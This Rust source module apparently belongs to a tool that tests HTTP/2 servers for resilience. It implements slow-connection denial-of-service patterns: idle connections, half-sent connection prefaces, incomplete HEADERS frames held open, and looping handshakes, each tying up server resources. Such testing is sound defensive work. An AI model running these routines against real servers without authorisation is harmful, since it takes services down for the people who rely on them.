//! Connections that do next to nothing.

use std::rc::Rc;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::hostile::{
    attack::{on_lanes, on_many, tables::GET_CAPACITY},
    attacker::Attacker,
    frames::{HEADERS, PREFACE, call_headers, frame, opening},
};

pub(crate) async fn silent(attacker: Rc<Attacker>) {
    let connections = attacker.plan.connections;
    on_many(attacker, connections, |attacker, _| say(attacker, true, Vec::new())).await;
}

pub(crate) async fn half_preface(attacker: Rc<Attacker>) {
    let connections = attacker.plan.connections;
    on_many(attacker, connections, |attacker, _| say(attacker, false, PREFACE[..PREFACE.len() / 2].to_vec())).await;
}

pub(crate) async fn half_headers(attacker: Rc<Attacker>) {
    let connections = attacker.plan.connections;
    let said = [opening(0), frame(HEADERS, 0, 1, &call_headers(GET_CAPACITY))].concat();
    on_many(attacker, connections, |attacker, _| say(attacker, false, said.clone())).await;
}

/// Sends this, and waits until the server hangs up.
async fn say(attacker: Rc<Attacker>, barely: bool, said: Vec<u8>) {
    loop {
        let wire = if barely { attacker.connect_barely().await } else { attacker.connect().await };
        let Some(mut wire) = wire else { continue };
        let mut buffer = [0; 256];
        if wire.write_all(&said).await.is_ok() && wire.flush().await.is_ok() {
            while wire.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
        }
        attacker.was_ended();
    }
}

pub(crate) async fn handshakes(attacker: Rc<Attacker>) {
    on_lanes(attacker, |attacker, _| async move {
        loop {
            let Some(mut wire) = attacker.connect().await else { continue };
            let _ = wire.write_all(&opening(0)).await;
            let _ = wire.flush().await;
            // The settings of the server.
            let _ = wire.read(&mut [0; 64]).await;
        }
    })
    .await;
}
